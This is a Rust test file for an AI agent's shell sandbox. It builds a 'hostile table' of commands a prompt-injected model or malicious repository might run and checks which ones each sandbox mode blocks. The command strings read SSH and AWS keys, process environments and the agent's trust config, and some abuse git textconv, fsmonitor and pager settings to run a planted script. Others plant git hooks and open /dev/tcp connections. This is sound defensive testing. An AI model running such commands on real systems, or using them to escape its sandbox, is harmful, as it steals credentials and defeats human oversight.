//! The hostile table: commands a prompt-injected model or a hostile repository would try, each
//! run under every sandbox, with what actually happened on disk, in the output and on the
//! network. One fresh folder holds everything (the session's root, a fake home with keys, a
//! folder outside, the only temporary directory commands may write), so the table holds
//! wherever the checkout is.
//!
//! Columns: `unasked` is the default permission path (a command the read-only rule allows runs
//! in the read-only sandbox; anything else asks); the others are the command approved, under
//! `read-only`, `workspace-write`, `workspace-write` with `network: deny`, and `off`.

use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use serde_json::json;
use tempfile::TempDir;
use tool_builtins::{Builtins, NetworkPolicy, ReadDenies, SandboxMode, ShellConfig};
use tool_core::{PermissionCheck, Session, ToolContext};

use crate::support::Probe;

/// What a case tries to do; the outcome says whether it happened.
#[derive(Clone, Copy)]
enum Effect {
    /// A marker of a secret (or of a repository's program) reaches the output, a file outside
    /// the roots is created, or a connection reaches the listener.
    Escape,
    /// This file (relative to the base folder) is created or changed.
    Writes(&'static str),
    /// Not an attack: the output shows this text when the command works as it should.
    Works(&'static str),
}

struct Case {
    what: &'static str,
    command: &'static str,
    effect: Effect,
}

const fn case(what: &'static str, command: &'static str, effect: Effect) -> Case {
    Case {
        what,
        command,
        effect,
    }
}

use Effect::{Escape, Works, Writes};

/// `BASE` stands for the base folder, `PORT` for the listener's port.
const CASES: &[Case] = &[
    // Reads outside the roots.
    case(
        "brace expansion to the home",
        "cat {BASE/home,x}/.ssh/id_rsa",
        Escape,
    ),
    case("tilde", "cat ~/.ssh/id_rsa", Escape),
    case("glob over a committed link out", "cat z*", Escape),
    case("a committed link out", "cat z1", Escape),
    case(
        "a committed link to a folder",
        "cat ln_home/.ssh/id_rsa",
        Escape,
    ),
    case(
        "glob through a link to a folder",
        "cat ln_*/.ssh/id_rsa",
        Escape,
    ),
    case(
        "parameter expansion",
        "cat ${PWD%/root}/home/.ssh/id_rsa",
        Escape,
    ),
    case(
        "quoted expansion and ..",
        "cat \"$PWD\"/../home/.aws/credentials",
        Escape,
    ),
    case("plain ..", "cat ../outside/secret.txt", Escape),
    case("absolute path", "cat BASE/outside/secret.txt", Escape),
    case(
        "/proc/self/root",
        "cat /proc/self/root${PWD%/root}/home/.ssh/id_rsa",
        Escape,
    ),
    case(
        "the agent's own config",
        "cat ${PWD%/root}/home/.config/agent-cli/trust.json",
        Escape,
    ),
    case(
        "recursive grep of the home",
        "grep -r KEY-MARKER ${PWD%/root}/home",
        Escape,
    ),
    case("listing the home", "ls -a ${PWD%/root}/home/.ssh", Escape),
    case("tail through a glob link", "tail z?", Escape),
    case("head of a link", "head z1", Escape),
    case(
        "the agent's environment",
        "cat ${PWD%%/*}/proc/$PPID/environ",
        Escape,
    ),
    case(
        "init's environment",
        "cat ${PWD%%/*}/proc/1/environ",
        Escape,
    ),
    case(
        "the agent's working directory",
        "ls ${PWD%%/*}/proc/$PPID/cwd/",
        Escape,
    ),
    // Read deny rules (`.env` is denied).
    case("a denied file", "cat .env", Escape),
    case("a denied file by glob", "cat .e*", Escape),
    case("grep over a denied file", "grep -r KEY-MARKER .", Escape),
    case(
        "copying a denied file",
        "cp .env stolen.txt && cat stolen.txt",
        Escape,
    ),
    // Programs from repository-controlled git configuration.
    case(
        "textconv in a nested bare repository",
        "git -C evil log -p",
        Escape,
    ),
    case("show with textconv", "git -C evil show HEAD", Escape),
    case(
        "external diff between commits",
        "git -C evil diff HEAD~1 HEAD",
        Escape,
    ),
    case(
        "blame with textconv",
        "git -C evil blame HEAD -- f.txt",
        Escape,
    ),
    case("--git-dir", "git --git-dir=evil log -p", Escape),
    case(
        "fsmonitor in a nested repository",
        "git -C nested status",
        Escape,
    ),
    case(
        "external diff and clean filter in the work tree",
        "git -C nested diff",
        Escape,
    ),
    case("pager from the repository", "git -C nested log", Escape),
    case(
        "signature check program",
        "git -C nested log --show-signature",
        Escape,
    ),
    case(
        "git grep with textconv",
        "git -C nested grep --textconv KEY",
        Escape,
    ),
    // Writes.
    case(
        "write outside the roots",
        "echo x > ../outside/pwned",
        Writes("outside/pwned"),
    ),
    case(
        "write outside by expansion",
        "touch ${PWD%/root}/outside/pwned",
        Writes("outside/pwned"),
    ),
    case(
        "write inside the root",
        "echo x > new.txt",
        Writes("root/new.txt"),
    ),
    case(
        "write the temporary directory",
        "echo x > ../tmp/new.txt",
        Writes("tmp/new.txt"),
    ),
    case(
        "plant a git hook",
        "echo 'curl x' > .git/hooks/pre-commit",
        Writes("root/.git/hooks/pre-commit"),
    ),
    case(
        "change git config",
        "git config core.pager 'sh -c pwned'",
        Writes("root/.git/config"),
    ),
    case(
        "append to git config",
        "echo '[core] fsmonitor = x' >> .git/config",
        Writes("root/.git/config"),
    ),
    case(
        "replace the hooks folder",
        "mv .git/hooks .git/old && mkdir .git/hooks && touch .git/hooks/post-checkout",
        Writes("root/.git/hooks/post-checkout"),
    ),
    case(
        "write the fake home",
        "echo x >> ${PWD%/root}/home/.bashrc",
        Writes("home/.bashrc"),
    ),
    // Network.
    case(
        "connect from an approved command",
        "echo hi > /dev/tcp/127.0.0.1/PORT",
        Escape,
    ),
    case(
        "connect from a textconv",
        "git -C evil log -p -- net.txt",
        Escape,
    ),
    // What must keep working.
    case("git diff of the work tree", "git diff", Works("+changed")),
    case("git status", "git status --short", Works("M a.txt")),
    case("git log", "git log --oneline", Works("one")),
    case("grep in the root", "grep -rn hello a.txt", Works("hello")),
];

/// The fixture: a repository with hostile parts, a fake home, a folder outside, a listener.
struct Fixture {
    _dir: TempDir,
    base: PathBuf,
    root: PathBuf,
    session: Arc<Session>,
    listener: TcpListener,
    port: u16,
}

fn sh(dir: &Path, script: &str) {
    let status = std::process::Command::new("bash")
        .arg("-ec")
        .arg(script)
        .current_dir(dir)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_AUTHOR_NAME", "a")
        .env("GIT_AUTHOR_EMAIL", "a@b")
        .env("GIT_COMMITTER_NAME", "a")
        .env("GIT_COMMITTER_EMAIL", "a@b")
        .status()
        .unwrap();
    assert!(status.success(), "{script}");
}

impl Fixture {
    fn new() -> Self {
        let dir = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
        let base = dir.path().canonicalize().unwrap();
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let port = listener.local_addr().unwrap().port();
        let root = base.join("root");
        let b = base.display();
        // The repository's program: prints a marker, reads a key, writes outside, connects.
        let pwn = format!(
            "#!/bin/sh\necho PWNED-MARKER\ncat {b}/home/.ssh/id_rsa\ntouch {b}/outside/pwned\nexec 3<>/dev/tcp/127.0.0.1/{port}\n"
        );
        sh(
            &base,
            &format!(
                r#"
mkdir -p home/.ssh home/.aws home/.config/agent-cli outside tmp root
echo KEY-MARKER-ssh > home/.ssh/id_rsa
echo KEY-MARKER-aws > home/.aws/credentials
echo KEY-MARKER-agent > home/.config/agent-cli/trust.json
echo KEY-MARKER-outside > outside/secret.txt
cd root
git init -q . && echo hello > a.txt && git add a.txt && git commit -qm one && echo changed >> a.txt
echo KEY-MARKER-env > .env
ln -s {b}/home/.ssh/id_rsa z1
ln -s {b}/home ln_home
cat > pwn.sh <<'EOF'
{pwn}EOF
chmod +x pwn.sh
git init -q src && cd src
printf 'one\n' > f.txt && printf 'n\n' > net.txt && git add . && git commit -qm one
printf 'two\n' > f.txt && printf 'm\n' > net.txt && git commit -qam two
cd .. && git clone -q --bare src evil && rm -rf src
printf '[diff]\n\texternal = {b}/root/pwn.sh\n[diff "x"]\n\ttextconv = {b}/root/pwn.sh\n[diff "n"]\n\ttextconv = sh -c "exec 3<>/dev/tcp/127.0.0.1/{port}; echo PWNED-MARKER"\n' >> evil/config
printf 'f.txt diff=x\nnet.txt diff=n\n' > evil/info/attributes
git init -q nested && cd nested && echo KEY > k.txt && git add . && git commit -qm one && echo KEY2 >> k.txt
printf '[core]\n\tfsmonitor = {b}/root/pwn.sh\n\tpager = {b}/root/pwn.sh\n[diff]\n\texternal = {b}/root/pwn.sh\n[filter "f"]\n\tclean = {b}/root/pwn.sh\n[gpg]\n\tprogram = {b}/root/pwn.sh\n[diff "x"]\n\ttextconv = {b}/root/pwn.sh\n' >> .git/config
printf '* filter=f diff=x\n' > .git/info/attributes
"#
            ),
        );
        let session = Arc::new(Session::new("hostile", base.join("session"), &root));
        Self {
            _dir: dir,
            base,
            root,
            session,
            listener,
            port,
        }
    }

    fn shell(&self, mode: SandboxMode, network: NetworkPolicy) -> Probe {
        let config = ShellConfig {
            program: Some("/bin/bash".into()),
            sandbox: mode,
            network,
            temp_dirs: Some(vec![self.base.join("tmp")]),
            ..crate::support::shell_config()
        };
        Probe::of(
            &Builtins::new()
                .shell_config(config)
                .deny_reads(ReadDenies::new([".env"])),
            "shell",
        )
    }

    fn command(&self, case: &Case) -> String {
        case.command
            .replace("BASE", &self.base.display().to_string())
            .replace("PORT", &self.port.to_string())
    }

    /// Puts back what a case may have changed.
    fn reset(&self) {
        for file in [
            "outside/pwned",
            "root/new.txt",
            "tmp/new.txt",
            "root/stolen.txt",
            "home/.bashrc",
        ] {
            let _ = std::fs::remove_file(self.base.join(file));
        }
        let git = self.root.join(".git");
        if git.join("old").exists() {
            let _ = std::fs::remove_dir_all(git.join("hooks"));
            std::fs::rename(git.join("old"), git.join("hooks")).unwrap();
        }
        let _ = std::fs::remove_file(git.join("hooks/pre-commit"));
        let _ = std::fs::remove_file(git.join("hooks/post-checkout"));
        sh(
            &self.root,
            "git config --unset core.pager || true; sed -i '/fsmonitor = x/d' .git/config",
        );
        while self.listener.accept().is_ok() {}
    }

    /// Runs one case through `shell`, asking first when `unasked`; returns the outcome.
    async fn outcome(&self, shell: &Probe, case: &Case, unasked: bool) -> &'static str {
        self.reset();
        let config_before = std::fs::read(self.root.join(".git/config")).unwrap();
        let input = json!({"command": self.command(case)});
        let ctx = ToolContext::new("toolu_hostile", "shell", Arc::clone(&self.session));
        if unasked
            && !matches!(
                shell.check_permissions(&input, &ctx).await,
                PermissionCheck::Allow
            )
        {
            return "asks";
        }
        let text = match shell.call(input, &ctx).await {
            Ok(out) => out.joined_text(),
            Err(err) => err.to_string(),
        };
        let connected = self.listener.accept().is_ok();
        let happened = match case.effect {
            Escape => {
                text.contains("KEY-MARKER")
                    || text.contains("PWNED-MARKER")
                    || self.base.join("outside/pwned").exists()
                    || connected
            }
            Writes("root/.git/config") => {
                std::fs::read(self.root.join(".git/config")).unwrap() != config_before
            }
            Writes(file) => self.base.join(file).exists(),
            Works(shown) => {
                return if text.contains(shown) {
                    "works"
                } else {
                    "FAILS"
                };
            }
        };
        if happened { "HAPPENED" } else { "blocked" }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_commands_under_every_sandbox() {
    if !crate::sandbox::landlock_available() || !bash_and_git() {
        return;
    }
    let fixture = Fixture::new();
    let columns = [
        (
            "unasked",
            SandboxMode::WorkspaceWrite,
            NetworkPolicy::Allow,
            true,
        ),
        (
            "read-only",
            SandboxMode::ReadOnly,
            NetworkPolicy::Allow,
            false,
        ),
        (
            "workspace-write",
            SandboxMode::WorkspaceWrite,
            NetworkPolicy::Allow,
            false,
        ),
        (
            "ww, network deny",
            SandboxMode::WorkspaceWrite,
            NetworkPolicy::Deny,
            false,
        ),
        ("off", SandboxMode::Off, NetworkPolicy::Allow, false),
    ];
    let mut table = String::new();
    table.push_str("| case | command |");
    for (name, ..) in &columns {
        table.push_str(&format!(" {name} |"));
    }
    table.push('\n');
    let mut rows = Vec::new();
    for case in CASES {
        let mut row = Vec::new();
        for (_, mode, network, unasked) in &columns {
            let shell = fixture.shell(*mode, *network);
            row.push(fixture.outcome(&shell, case, *unasked).await);
        }
        table.push_str(&format!("| {} | `{}` |", case.what, case.command));
        for outcome in &row {
            table.push_str(&format!(" {outcome} |"));
        }
        table.push('\n');
        rows.push((case, row));
    }
    fixture.reset();
    assert!(CASES.len() >= 40);
    // What must hold, whatever the snapshot says.
    for (case, row) in &rows {
        assert_ne!(row[0], "HAPPENED", "unasked: {}\n{table}", case.what);
        if let Works(_) = case.effect {
            assert!(row.iter().all(|o| *o == "works"), "{}\n{table}", case.what);
        }
        if let Writes(file) = case.effect
            && !file.starts_with("root/new")
            && !file.starts_with("tmp/")
        {
            assert_ne!(
                row[2], "HAPPENED",
                "workspace-write: {}\n{table}",
                case.what
            );
            assert_ne!(
                row[3], "HAPPENED",
                "workspace-write: {}\n{table}",
                case.what
            );
        }
        if case.what.starts_with("connect") {
            assert_ne!(row[3], "HAPPENED", "network deny: {}\n{table}", case.what);
        }
        if case.what.contains("denied") {
            for (column, outcome) in row.iter().take(4).enumerate() {
                assert_ne!(
                    *outcome, "HAPPENED",
                    "column {column}: {}\n{table}",
                    case.what
                );
            }
        }
    }
    insta::assert_snapshot!(table);
}

fn bash_and_git() -> bool {
    let found = ["bash", "git"].iter().all(|program| {
        std::process::Command::new(program)
            .arg("--version")
            .output()
            .is_ok_and(|out| out.status.success())
    });
    if !found {
        eprintln!("skipped: the hostile table needs bash and git");
    }
    found
}
